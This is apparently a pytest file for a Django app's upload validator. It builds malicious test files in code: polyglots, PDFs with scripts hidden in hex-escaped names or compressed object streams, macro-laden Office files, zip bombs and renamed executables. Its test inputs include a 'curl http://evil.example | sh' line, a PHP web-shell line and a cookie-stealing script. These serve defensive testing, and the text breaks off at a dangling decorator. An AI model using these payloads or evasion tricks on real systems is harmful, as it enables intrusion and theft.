"""Upload safety: what documents.uploads.check_upload refuses, and that it
never reads a whole file into memory.

The malicious corpus is built here, in code: polyglots, PDFs with active
content (plain, obfuscated, hidden in compressed object streams), macro-enabled
Office files, zip bombs, executables and SVG under innocent names. Virus
scanning is tested against a small fake clamd on loopback that speaks the real
INSTREAM protocol (ClamAV itself is an outside service); the adapter under test
is the real one.
"""

import hashlib
import io
import shutil
import socket
import struct
import tempfile
import threading
import zipfile
import zlib
from functools import cache

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from core.errors import ValidationFailed
from documents import antivirus, inspection
from documents.uploads import DOCX, ODT, check_upload
from eservices.models import Application

from .factories import PERMIT_DATA
from .test_bad_input import apply_payload, field_error_shown, page

DEFAULT_TYPES = ["application/pdf", "image/jpeg", "image/png"]
FIELD = "doc_site_plan"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# --- the corpus ------------------------------------------------------------------------------------------------------

def pdf(*objects, catalog=b"", tail=b""):
    """A small PDF: catalog, page tree and one page, then ``objects`` numbered from 4."""
    bodies = [b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
              b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>", *objects]
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    for number, body in enumerate(bodies, 1):
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    return out + b"trailer<</Root 1 0 R/Size %d>>\n%%%%EOF\n" % (len(bodies) + 1) + tail


def object_stream(objects, *, dictionary=b"/Type/ObjStm/Filter/FlateDecode", encode=zlib.compress):
    """A compressed object stream holding ``objects`` (numbered from 10): where a
    raw scan of the file sees nothing of them."""
    header, offsets, body = b"", 0, b""
    for number, obj in enumerate(objects, 10):
        header += b"%d %d " % (number, offsets)
        body += obj + b"\n"
        offsets = len(body)
    data = encode(header + body)
    return (b"<<" + dictionary + b"/N %d/First %d/Length %d>>\nstream\n" % (len(objects), len(header), len(data))
            + data + b"\nendstream")


def png(width=2, height=2):
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = b"".join(b"\x00" + b"\x80" * (3 * width) for _ in range(height))
    return (inspection.PNG_SIGNATURE + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def jpeg(*segments, size=(16, 16)):
    """A real JPEG (Pillow, which WeasyPrint already brings) with ``segments`` right after its start marker."""
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 40, 40)).save(buffer, "JPEG")
    data = buffer.getvalue()
    return data[:2] + b"".join(segments) + data[2:]


def segment(marker, body):
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def zip_file(entries, *, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>{extra}'
    '<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
RELS = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'officeDocument" Target="word/document.xml"/></Relationships>')
DOCUMENT_XML = ('<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
                'main"><w:body><w:p><w:r><w:t>Site plan</w:t></w:r></w:p></w:body></w:document>')


def docx(**extra_entries):
    return zip_file({"[Content_Types].xml": CONTENT_TYPES.format(main=DOCX_MAIN, extra=""), "_rels/.rels": RELS,
                     "word/document.xml": DOCUMENT_XML, **extra_entries})


def docm():
    """What Word saves as .docm: a VBA project and the macro-enabled content type."""
    return zip_file({
        "[Content_Types].xml": CONTENT_TYPES.format(main=DOCM_MAIN, extra=(
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')),
        "_rels/.rels": RELS, "word/document.xml": DOCUMENT_XML,
        "word/vbaProject.bin": inspection.OLE2_SIGNATURE + bytes(504) + inspection.VBA_PROJECT,
    })


def odt(**extra_entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), ODT, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", '<?xml version="1.0"?><office:document-content/>')
        archive.writestr("META-INF/manifest.xml", '<?xml version="1.0"?><manifest:manifest/>')
        for name, content in extra_entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


@cache
def genuine_zip_bomb():
    """200 MB of zeros deflated to about 200 KB, written piece by piece so the test stays cheap."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("zeros.bin", "w") as entry:
        block = bytes(1024 * 1024)
        for _ in range(200):
            entry.write(block)
    return buffer.getvalue()


def declared_bomb():
    """A tiny archive whose central directory declares 4 GB unpacked."""
    data = bytearray(zip_file({"report.xml": b"<r/>" * 10}))
    central = data.index(b"PK\x01\x02")
    data[central + 24:central + 28] = struct.pack("<I", 0xFFFFFFF0)
    return bytes(data)


def overlapping_bomb():
    """Two entries whose directory records point at the same compressed data."""
    data = bytearray(zip_file({"a.xml": b"<a/>" * 1000, "b.xml": b"<b/>" * 1000}))
    second = data.index(b"PK\x01\x02", data.index(b"PK\x01\x02") + 4)
    data[second + 42:second + 46] = struct.pack("<I", 0)
    return bytes(data)


def elf():
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(100)


SVG_WITH_SCRIPT = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
                   b'<script>fetch("/api/v1/applications/").then(r => r.text()).then(alert)</script></svg>')


def refused(name, content, field=FIELD):
    with pytest.raises(ValidationFailed) as caught:
        check_upload(SimpleUploadedFile(name, content), field=field)
    error = caught.value
    assert error.fields == {field: [error.message]}, "the form shows the message on the file's field"
    return error


def accepted(name, content):
    checked = check_upload(SimpleUploadedFile(name, content), field=FIELD)
    assert checked.sha256 == hashlib.sha256(content).hexdigest()
    assert checked.size == len(content) and checked.file.tell() == 0
    return checked


# --- clean files still pass ------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("name", "content", "content_type"), [
    pytest.param("site_plan.pdf", pdf(), "application/pdf", id="small PDF"),
    pytest.param("site_plan.pdf", pdf(object_stream([b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]>>"])),
                 "application/pdf", id="PDF with a clean object stream"),
    pytest.param("site_plan.pdf", pdf(catalog=b"/OpenAction[3 0 R/Fit]"), "application/pdf",
                 id="PDF that opens at a page (OpenAction without script)"),
    pytest.param("site_plan.pdf", pdf(tail=b"\r\n\x00\x00"), "application/pdf", id="PDF with padding after %%EOF"),
    pytest.param("photo.png", png(), "image/png", id="PNG"),
    pytest.param("photo.png", png() + bytes(500), "image/png", id="PNG padded with NULs"),
    pytest.param("photo.jpg", jpeg(), "image/jpeg", id="JPEG"),
    pytest.param("photo.jpeg", jpeg(segment(0xE1, b"Exif\x00\x00" + jpeg(size=(4, 4)))), "image/jpeg",
                 id="JPEG with an embedded thumbnail"),
])
def test_clean_files_are_accepted(name, content, content_type):
    assert accepted(name, content).content_type == content_type


def test_a_pdf_made_by_weasyprint_is_accepted():
    """A real PDF with compressed object streams, made the way the store makes its letters."""
    from weasyprint import HTML

    content = HTML(string="<h1>Site plan</h1><p>Plot 17, <a href='https://example.org'>map</a></p>").write_pdf()
    assert b"/ObjStm" in content
    assert accepted("plan.pdf", content).content_type == "application/pdf"


# --- type by content -------------------------------------------------------------------------------------------------

NOT_ACCEPTED = "“{}” is not an accepted file type. Upload a PDF, JPEG or PNG file."


@pytest.mark.parametrize(("name", "content"), [
    pytest.param("site_plan.pdf", elf(), id="ELF executable renamed .pdf"),
    pytest.param("site_plan.pdf", b"#!/bin/sh\ncurl http://evil.example | sh\n", id="shell script renamed .pdf"),
    pytest.param("site_plan.png", b"MZ" + bytes(200), id="DOS/PE executable renamed .png"),
])
def test_an_executable_is_refused_whatever_its_name(name, content):
    error = refused(name, content)
    assert error.code == "executable"
    assert error.message == NOT_ACCEPTED.format(name)


def test_the_default_allow_list_refuses_office_files():
    error = refused("site_plan.docx", docx())
    assert error.code == "type_not_allowed"
    assert error.message == NOT_ACCEPTED.format("site_plan.docx")


def test_a_deployment_can_allow_docx_and_the_message_lists_its_types(settings):
    settings.MUNIS_UPLOAD_ALLOWED_TYPES = [*DEFAULT_TYPES, DOCX]
    assert accepted("site_plan.docx", docx()).content_type == DOCX
    error = refused("photo.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")
    assert error.message == "“photo.gif” is not an accepted file type. Accepted types: PDF, JPEG, PNG, DOCX."


def test_an_allowed_type_under_the_wrong_name_is_refused(settings):
    settings.MUNIS_UPLOAD_ALLOWED_TYPES = [*DEFAULT_TYPES, DOCX]
    error = refused("site_plan.pdf", docx())
    assert error.code == "name_mismatch"
    assert error.message == f"The name “site_plan.pdf” does not match its content ({DOCX})."


# --- SVG -------------------------------------------------------------------------------------------------------------

SVG_REFUSED = ("“{}” is an SVG image. SVG files can carry scripts and are not accepted; save the drawing as PDF or PNG "
               "and upload that.")


@pytest.mark.parametrize("name", ["site_plan.png", "site_plan.svg", "site_plan.pdf"])
def test_an_svg_is_refused_even_renamed(name):
    error = refused(name, SVG_WITH_SCRIPT)
    assert error.code == "svg"
    assert error.message == SVG_REFUSED.format(name)


def test_an_svg_without_an_xml_declaration_is_refused():
    assert refused("plan.png", b"\xef\xbb\xbf  <svg><script>alert(1)</script></svg>").code == "svg"


# --- size ------------------------------------------------------------------------------------------------------------

class NeverRead:
    """An upload that says it is 2 GB and fails the test if anyone reads it."""

    name = "huge_site_plan.pdf"
    size = 2 * 1024 ** 3

    def read(self, *args):
        raise AssertionError("an oversize upload must be refused before it is read")

    def chunks(self, *args):
        raise AssertionError("an oversize upload must be refused before it is read")

    def seek(self, position):
        pass


def test_an_oversize_upload_is_refused_before_it_is_read(settings):
    settings.MUNIS_UPLOAD_MAX_BYTES = 10 * 1024 * 1024
    with pytest.raises(ValidationFailed) as caught:
        check_upload(NeverRead(), field=FIELD)
    error = caught.value
    assert error.code == "too_large"
    assert error.message == "“huge_site_plan.pdf” is too large (2.0\xa0GB); the limit is 10.0\xa0MB."


def test_the_size_limit_is_a_setting(settings):
    settings.MUNIS_UPLOAD_MAX_BYTES = 1024
    error = refused("site_plan.pdf", pdf(tail=b"\n" * 2000))
    assert error.code == "too_large"
    assert error.message.startswith("“site_plan.pdf” is too large (")


# --- PDF active content ----------------------------------------------------------------------------------------------

def active(what, name="site_plan.pdf"):
    return (f"“{name}” contains active content ({what}): scripts, actions that start programs, attached files or "
            "forms that send data. Save it as a plain PDF (for example with “Print to PDF”) and upload that.")


@pytest.mark.parametrize(("content", "what"), [
    pytest.param(pdf(b"<</S/JavaScript/JS(app.alert(1))>>", catalog=b"/OpenAction 4 0 R"), "/JavaScript",
                 id="JavaScript open action"),
    pytest.param(pdf(b"<</JS(app.alert(1))>>"), "/JS", id="a /JS key alone"),
    pytest.param(pdf(b"<</S/J#61vaScript/J#53(app.alert(1))>>", catalog=b"/OpenAction 4 0 R"), "/JavaScript",
                 id="/J#61vaScript: a hex-escaped name"),
    pytest.param(pdf(b"<</S/#4A#61#76#61#53#63#72#69#70#74>>"), "/JavaScript", id="a name escaped entirely"),
    pytest.param(pdf(b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>", catalog=b"/OpenAction 4 0 R"),
                 "/Launch", id="Launch action"),
    pytest.param(pdf(b"<</S/L#61unch/F(run.sh)>>"), "/Launch", id="escaped Launch"),
    pytest.param(pdf(b"<</Names[(x.exe) 5 0 R]>>", catalog=b"/Names<</EmbeddedFiles 4 0 R>>"), "/EmbeddedFiles",
                 id="embedded files"),
    pytest.param(pdf(b"<</Type/EmbeddedFile/Length 0>>stream\n\nendstream"), "/EmbeddedFile",
                 id="an embedded file stream"),
    pytest.param(pdf(b"<</Subtype/RichMedia>>"), "/RichMedia", id="rich media"),
    pytest.param(pdf(catalog=b"/AcroForm<</Fields[]/XFA 4 0 R>>"), "/XFA", id="XFA form"),
    pytest.param(pdf(b"<</S/SubmitForm/F(https://evil.example/collect)>>"), "/SubmitForm", id="submit form"),
    pytest.param(pdf(b"<</S/ImportData/F(data.fdf)>>"), "/ImportData", id="import data"),
    pytest.param(pdf(b"<</AA<</O<</S/JavaScript/JS 5 0 R>>>>>>"), "/JavaScript", id="additional action with script"),
])
def test_a_pdf_with_active_content_is_refused(content, what):
    error = refused("site_plan.pdf", content)
    assert error.code == "active_content"
    assert error.message == active(what)


@pytest.mark.parametrize(("stream", "what"), [
    pytest.param(object_stream([b"<</S/JavaScript/JS(app.alert(1))>>"]), "/JavaScript", id="Flate object stream"),
    pytest.param(object_stream([b"<</S/J#61vaScript/JS(app.alert(1))>>"]), "/JavaScript",
                 id="escaped name in an object stream"),
    pytest.param(object_stream([b"<</Type/Page>>", b"<</S/Launch/F(calc.exe)>>"],
                               dictionary=b"/Type/Obj#53tm/Filter[/Fl]"), "/Launch",
                 id="escaped /ObjStm, abbreviated filter"),
    pytest.param(object_stream([b"<</S/JavaScript>>"], dictionary=b"/Type /ObjStm /Filter /Fl#61teDecode"),
                 "/JavaScript", id="escaped filter name"),
    pytest.param(object_stream([b"<</S/JavaScript>>"]).replace(b"\nstream\n", b"\nstream  \r\n"), "/JavaScript",
                 id="spaces after the stream keyword"),
])
def test_javascript_hidden_in_a_compressed_object_stream_is_refused(stream, what):
    content = pdf(stream, catalog=b"/OpenAction 10 0 R")
    assert b"JavaScript" not in content and b"Launch" not in content  # invisible to a raw scan
    error = refused("site_plan.pdf", content)
    assert error.code == "active_content"
    assert error.message == active(what)


UNCHECKABLE = ("“site_plan.pdf” has parts that are encrypted or packed in a way that cannot be checked. Save it again "
               "without encryption and upload that.")


@pytest.mark.parametrize("stream", [
    pytest.param(object_stream([b"<</S/JavaScript>>"], dictionary=b"/Type/ObjStm/Filter/ASCIIHexDecode",
                               encode=lambda data: data.hex().encode() + b">"), id="a filter the check cannot read"),
    pytest.param(object_stream([b"<</S/JavaScript>>"], dictionary=b"/Type/ObjStm/Filter[/ASCII85Decode/FlateDecode]",
                               encode=lambda data: b"garbled~>"), id="a filter chain"),
    pytest.param(object_stream([b"<</S/JavaScript>>"],
                               dictionary=b"/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>",
                               encode=lambda data: zlib.compress(b"\x02" + data)), id="a predictor"),
    pytest.param(object_stream([b"<</S/JavaScript>>"], dictionary=b"/Type/ObjStm/Filter/FlateDecode",
                               encode=lambda data: b"not deflate at all"), id="broken compression"),
    pytest.param(object_stream([b"<</S/JavaScript>>"], dictionary=b"/Type/ObjStm/Filter/FlateDecode/X(stream\n)"),
                 id="a decoy stream keyword in a string"),
    pytest.param(b"<</Type/ObjStm/Filter/FlateDecode/N 1/First 4>>", id="an object stream without its data"),
])
def test_an_object_stream_that_cannot_be_read_is_refused(stream):
    error = refused("site_plan.pdf", pdf(stream))
    assert (error.code, error.message) == ("uncheckable", UNCHECKABLE)


def test_object_streams_are_inflated_only_up_to_a_limit(monkeypatch):
    monkeypatch.setattr(inspection, "PDF_INFLATE_LIMIT", 64 * 1024)
    error = refused("site_plan.pdf", pdf(object_stream([b"<</Filler(" + b"x" * 200_000 + b")>>"])))
    assert error.code == "zip_bomb"


@pytest.mark.parametrize("offset", range(4082, 4098, 3))
@pytest.mark.parametrize("name", [b"/JavaScript", b"/J#61v#61Script"])
def test_a_name_across_a_chunk_boundary_is_found(monkeypatch, offset, name):
    """The file is read in chunks that overlap: a name cut in two by a chunk's
    end is still seen whole."""
    monkeypatch.setattr(inspection, "CHUNK_SIZE", 4096)
    start = pdf()
    filler = offset - len(start) - len(b"99 0 obj\n<</Filler(") - len(b")/S")
    content = start + b"99 0 obj\n<</Filler(" + b"." * filler + b")/S" + name + b">>\nendobj\n%%EOF\n"
    assert content.index(name) == offset
    assert refused("site_plan.pdf", content).message == active("/JavaScript")


def test_short_names_in_compressed_data_are_not_mistaken_for_script():
    """/JS in the middle of binary data is chance, not a dictionary key."""
    binary = bytes(range(128, 256)) * 2
    content = pdf(b"<</Length %d>>stream\n" % (len(binary) * 2 + 4) + binary + b"/JS " + binary + b"\nendstream")
    accepted("site_plan.pdf", content)


# --- polyglots -------------------------------------------------------------------------------------------------------

POLYGLOT = "“{}” hides another kind of file inside or after its content, and is refused."
ZIP_PAYLOAD = zip_file({"evil.html": b"<script>alert(1)</script>"})


@pytest.mark.parametrize(("name", "content"), [
    pytest.param("site_plan.pdf", b"GIF89a/*" + bytes(40) + pdf(), id="bytes before the %PDF- header"),
    pytest.param("site_plan.pdf", b"\n" + pdf(), id="one byte before the %PDF- header"),
    pytest.param("site_plan.pdf", pdf(tail=ZIP_PAYLOAD), id="PDF + ZIP"),
    pytest.param("site_plan.pdf", pdf(b"<</Length %d>>stream\n" % len(ZIP_PAYLOAD) + ZIP_PAYLOAD + b"\nendstream"),
                 id="ZIP inside a PDF stream"),
    pytest.param("site_plan.pdf", pdf(tail=b"<html><body>" + b"x" * 200 + b"</body></html>"),
                 id="HTML after the PDF's end"),
    pytest.param("photo.png", png() + ZIP_PAYLOAD, id="PNG with a trailing ZIP"),
    pytest.param("photo.png", png() + b"A" * 65, id="data after the PNG's IEND"),
    pytest.param("photo.jpg", jpeg(segment(0xFE, b"<script>alert(document.cookie)</script>")),
                 id="JPEG with <script>"),
    pytest.param("photo.jpg", jpeg(segment(0xFE, b"x<HTML>x")), id="JPEG with <html>"),
    pytest.param("photo.jpg", jpeg(segment(0xFE, b"<?php system($_GET['c']); ?>")), id="JPEG with PHP"),
    pytest.param("photo.jpg", jpeg() + b"<!-- more after the end of the image -->" * 3, id="data after the JPEG's EOI"),
    pytest.param("photo.jpg", jpeg(segment(0xFE, b"%PDF-1.4 " + bytes(20))), id="JPEG that is also a PDF"),
    pytest.param("photo.png", png()[:16] + ZIP_PAYLOAD + png()[16:], id="ZIP inside a PNG"),
])
def test_a_polyglot_is_refused(name, content):
    error = refused(name, content)
    assert error.code == "polyglot"
    assert error.message == POLYGLOT.format(name)


def test_a_little_trailing_data_is_tolerated():
    accepted("photo.png", png() + b"A" * inspection.TRAILING_TOLERANCE)
    accepted("photo.jpg", jpeg() + b"\n" * 10)


@pytest.mark.parametrize(("name", "content"), [
    pytest.param("site_plan.pdf", pdf().replace(b"%%EOF", b"%%END"), id="PDF without %%EOF"),
    pytest.param("photo.png", png()[:-12], id="PNG without IEND"),
    pytest.param("photo.jpg", jpeg()[:-2], id="JPEG without EOI"),
])
def test_a_truncated_file_is_refused_as_damaged(name, content):
    error = refused(name, content)
    assert (error.code, error.message) == ("damaged", f"“{name}” is damaged or incomplete.")


# --- Office files: macros and zip bombs ------------------------------------------------------------------------------

MACRO = "“{}” contains macros or other program code. Save it as a document without macros and upload that."
ZIP_BOMB = "“{}” would unpack to far more data, or many more parts, than is safe to accept (a “zip bomb”)."


@pytest.mark.parametrize("allowed", [
    pytest.param(DEFAULT_TYPES, id="default allow-list"),
    pytest.param([*DEFAULT_TYPES, DOCX], id="DOCX allowed"),
])
@pytest.mark.parametrize("name", ["application.docm", "application.docx", "site_plan.pdf"])
def test_a_macro_enabled_document_is_refused(settings, allowed, name):
    settings.MUNIS_UPLOAD_ALLOWED_TYPES = allowed
    error = refused(name, docm())
    assert error.code == "macro"
    assert error.message == MACRO.format(name)


@pytest.mark.parametrize("content", [
    pytest.param(docx(**{"word/vbaProject.bin": b"\x00" * 10}), id="a VBA project by name"),
    pytest.param(zip_file({"[Content_Types].xml": CONTENT_TYPES.format(main=DOCM_MAIN, extra=""),
                           "word/document.xml": DOCUMENT_XML}), id="the macro-enabled content type alone"),
    pytest.param(docx(**{"word/embeddings/oleObject1.bin": inspection.OLE2_SIGNATURE + bytes(600)
                         + inspection.VBA_PROJECT}), id="an embedded OLE object with VBA"),
    pytest.param(docx(**{"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"}), id="an Excel 4 macro sheet"),
])
def test_macros_are_found_however_they_are_packed(settings, content):
    settings.MUNIS_UPLOAD_ALLOWED_TYPES = [*DEFAULT_TYPES, DOCX]
    assert refused("site_plan.docx", content).code == "macro"


def test_an_old_office_file_with_a_vba_project_is_refused():
    content = inspection.OLE2_SIGNATURE + bytes(1000) + "Root Entry".encode("utf-16-le") + bytes(100) + (
        inspection.VBA_PROJECT) + bytes(2000)
    error = refused("site_plan.doc", content)
    assert (error.code, error.message) == ("macro", MACRO.format("site_plan.doc"))


def test_an_opendocument_text_is_accepted_when_allowed_unless_it_has_macros(settings):
    settings.MUNIS_UPLOAD_ALLOWED_TYPES = [*DEFAULT_TYPES, ODT]
    assert accepted("letter.odt", odt()).content_type == ODT
    assert refused("letter.odt", odt(**{"Basic/Standard/Module1.xml": "<script:module/>"})).code == "macro"


@pytest.mark.parametrize("name", ["bomb.zip", "site_plan.pdf", "site_plan.docx"])
def test_a_genuine_zip_bomb_is_refused_under_any_name(settings, name):
    settings.MUNIS_UPLOAD_ALLOWED_TYPES = [*DEFAULT_TYPES, DOCX]
    content = genuine_zip_bomb()
    assert len(content) < 1024 * 1024
    error = refused(name, content)
    assert (error.code, error.message) == ("zip_bomb", ZIP_BOMB.format(name))


@pytest.mark.parametrize("content", [
    pytest.param(declared_bomb(), id="central directory declares 4 GB"),
    pytest.param(zip_file({f"part{n}.xml": b"" for n in range(1001)}), id="too many entries"),
    pytest.param(overlapping_bomb(), id="entries that overlap"),
])
def test_a_zip_bomb_is_refused_from_its_directory(settings, content):
    settings.MUNIS_UPLOAD_ALLOWED_TYPES = [*DEFAULT_TYPES, DOCX]
    assert refused("site_plan.docx", content).code == "zip_bomb"


def test_the_zip_limits_are_settings(settings):
    settings.MUNIS_UPLOAD_ALLOWED_TYPES = [*DEFAULT_TYPES, DOCX]
    settings.MUNIS_UPLOAD_ZIP_MAX_ENTRIES = 2
    assert refused("site_plan.docx", docx()).code == "zip_bomb"
    settings.MUNIS_UPLOAD_ZIP_MAX_ENTRIES = 1000
    settings.MUNIS_UPLOAD_ZIP_MAX_UNCOMPRESSED = 100
    assert refused("site_plan.docx", docx()).code == "zip_bomb"


def test_a_zip_entry_that_unpacks_to_more_than_it_declares_is_refused(settings):
    settings.MUNIS_UPLOAD_ALLOWED_TYPES = [*DEFAULT_TYPES, DOCX]
    data = bytearray(docx())
    at = data.index(b"word/document.xml", data.index(b"PK\x01\x02")) - 46
    data[at + 24:at + 28] = struct.pack("<I", 10)  # document.xml "unpacks to 10 bytes"
    assert refused("site_plan.docx", bytes(data)).code == "zip_bomb"


@pytest.mark.parametrize(("content", "entry"), [
    pytest.param(docx(**{"word/embeddings/inner.zip": ZIP_PAYLOAD}), "word/embeddings/inner.zip", id="by name"),
    pytest.param(docx(**{"word/media/image1.xml": ZIP_PAYLOAD}), "word/media/image1.xml", id="by content"),
    pytest.param(docx(**{"customXml/data.gz": b"\x1f\x8b\x08" + bytes(20)}), "customXml/data.gz", id="gzip"),
])
def test_an_archive_inside_an_archive_is_refused(settings, content, entry):
    settings.MUNIS_UPLOAD_ALLOWED_TYPES = [*DEFAULT_TYPES, DOCX]
    error = refused("site_plan.docx", content)
    assert error.code == "nested_archive"
    assert error.message == (f"“site_plan.docx” contains another archive ({entry}). Upload the documents themselves, "
                             "not archives.")


def test_an_encrypted_zip_entry_cannot_be_checked(settings):
    settings.MUNIS_UPLOAD_ALLOWED_TYPES = [*DEFAULT_TYPES, DOCX]
    data = bytearray(docx())
    central = data.index(b"PK\x01\x02")
    data[central + 8] |= 0x01  # the "encrypted" flag
    assert refused("site_plan.docx", bytes(data)).code == "uncheckable"


# --- streaming -------------------------------------------------------------------------------------------------------

class SpyUpload(SimpleUploadedFile):
    """Records every read: none may ask for the whole file."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.reads = []

    def read(self, size=-1):
        self.reads.append(size)
        return self.file.read(size)


def large_pdf():
    return pdf(b"<</Length 8999936>>stream\n" + bytes(range(256)) * 35156 + b"\nendstream")


def large_jpeg():
    buffer = io.BytesIO()
    Image.effect_noise((1500, 1500), 90).convert("RGB").save(buffer, "JPEG", quality=95)
    return buffer.getvalue()


@pytest.mark.parametrize(("name", "build", "passes"), [
    pytest.param("plan.pdf", large_pdf, True, id="large PDF"),
    pytest.param("plan.jpg", large_jpeg, True, id="large JPEG"),
    pytest.param("bomb.pdf", genuine_zip_bomb, False, id="zip bomb"),
])
def test_uploads_are_read_in_chunks_never_whole(settings, name, build, passes):
    settings.MUNIS_UPLOAD_MAX_BYTES = 64 * 1024 * 1024
    content = build()
    assert len(content) > 2 * inspection.CHUNK_SIZE or not passes
    upload = SpyUpload(name, content)
    if passes:
        check_upload(upload, field=FIELD)
    else:
        with pytest.raises(ValidationFailed):
            check_upload(upload, field=FIELD)
    assert upload.reads and all(0 < size <= inspection.CHUNK_SIZE for size in upload.reads), upload.reads[:20]
    assert upload.tell() == 0


# --- virus scanning --------------------------------------------------------------------------------------------------

class FakeClamd:
    """A stand-in for clamd on loopback (TCP, or a Unix socket) that speaks
    INSTREAM: ``zINSTREAM\\0``, chunks each preceded by a 4-byte big-endian
    length, a zero length to end; answers ``stream: OK\\0`` or
    ``stream: Eicar-Test-Signature FOUND\\0``. ``limit`` plays clamd's
    StreamMaxLength; ``silent`` never answers."""

    def __init__(self, unix_path=None, *, limit=None, silent=False):
        self.limit, self.silent = limit, silent
        self.streams = []
        self.stopping = threading.Event()
        if unix_path:
            self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            self.sock.bind(unix_path)
        else:
            self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            self.sock.bind(("127.0.0.1", 0))
            self.port = self.sock.getsockname()[1]
        self.sock.listen(5)
        self.sock.settimeout(0.1)
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def close(self):
        self.stopping.set()
        self.thread.join(5)
        self.sock.close()

    def _serve(self):
        while not self.stopping.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(5)
                try:
                    self._answer(conn)
                except OSError:
                    pass

    @staticmethod
    def _exactly(conn, n):
        data = b""
        while len(data) < n:
            piece = conn.recv(n - len(data))
            if not piece:
                raise ConnectionError("client went away")
            data += piece
        return data

    def _answer(self, conn):
        command = b""
        while not command.endswith(b"\0"):
            command += self._exactly(conn, 1)
        if command != b"zINSTREAM\0":
            conn.sendall(b"UNKNOWN COMMAND\0")
            return
        chunks = []
        while (length := struct.unpack(">I", self._exactly(conn, 4))[0]) != 0:
            chunks.append(self._exactly(conn, length))
            if self.limit and sum(map(len, chunks)) > self.limit:
                conn.sendall(b"INSTREAM size limit exceeded. ERROR\0")
                return
        self.streams.append(chunks)
        if self.silent:
            self.stopping.wait(10)
            return
        found = EICAR in b"".join(chunks)
        conn.sendall(b"stream: Eicar-Test-Signature FOUND\0" if found else b"stream: OK\0")


@pytest.fixture
def clamd(settings):
    server = FakeClamd()
    settings.MUNIS_VIRUS_SCANNER = "documents.antivirus.ClamdScanner"
    settings.MUNIS_CLAMD_HOST, settings.MUNIS_CLAMD_PORT = "127.0.0.1", server.port
    yield server
    server.close()


def with_eicar():
    """A PDF carrying the EICAR test string, which every virus scanner reports."""
    return pdf(b"<</Length %d>>stream\n" % len(EICAR) + EICAR + b"\nendstream")


VIRUS = "“site_plan.pdf” contains a virus (Eicar-Test-Signature) and is refused."
SCANNER_DOWN = "“site_plan.pdf” could not be checked for viruses. Please try again later."


def test_a_clean_file_is_streamed_to_clamd_in_chunks(clamd):
    content = pdf(b"<</Length 320000>>stream\n" + b"drawing " * 40_000 + b"\nendstream")
    checked = accepted("site_plan.pdf", content)
    assert checked.file.tell() == 0
    [chunks] = clamd.streams
    assert b"".join(chunks) == content
    assert len(chunks) > 1 and max(map(len, chunks)) <= antivirus.ClamdScanner.chunk_size


def test_a_file_with_a_virus_is_refused(clamd):
    error = refused("site_plan.pdf", with_eicar())
    assert (error.code, error.message) == ("virus_found", VIRUS)


def test_clamd_on_a_unix_socket(settings):
    folder = tempfile.mkdtemp(prefix="clamd")  # short: Unix socket paths are limited to about 100 bytes
    path = f"{folder}/clamd.sock"
    server = FakeClamd(path)
    try:
        settings.MUNIS_VIRUS_SCANNER = "documents.antivirus.ClamdScanner"
        settings.MUNIS_CLAMD_SOCKET = path
        accepted("site_plan.pdf", pdf())
        assert refused("site_plan.pdf", with_eicar()).code == "virus_found"
        assert len(server.streams) == 2
    finally:
        server.close()
        shutil.rmtree(folder)


def _closed_port():
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@pytest.mark.parametrize("trouble", ["nobody listens", "no answer", "stream too long", "no such socket"])
